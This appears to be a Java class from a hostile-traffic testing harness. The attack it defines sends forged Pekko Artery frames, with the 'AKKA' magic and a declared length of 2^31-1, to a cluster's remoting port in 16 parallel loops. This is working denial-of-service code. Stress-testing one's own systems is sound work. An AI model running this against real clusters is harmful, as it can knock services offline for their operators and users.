package io.trunkline.hostile.attack;

/** Frames of a length that never comes, at the cluster's own port: what Pekko's remoting makes of them. */
final class ArteryFrames implements Attack {
    /** Pekko's own magic, the control stream, and a length of 2^31-1. */
    private static final byte[] FRAME = {'A', 'K', 'K', 'A', 1, -1, -1, -1, 127};

    @Override
    public String name() {
        return "artery-frames";
    }

    @Override
    public String summary() {
        return "frames of 2^31-1 bytes at the Artery port";
    }

    @Override
    public void run(Field field) {
        field.each(16, name(), number -> {
            while (!field.over()) {
                var socket = field.connect(field.addresses().artery());
                socket.getOutputStream().write(FRAME);
                socket.getInputStream().read();
            }
        });
    }
}
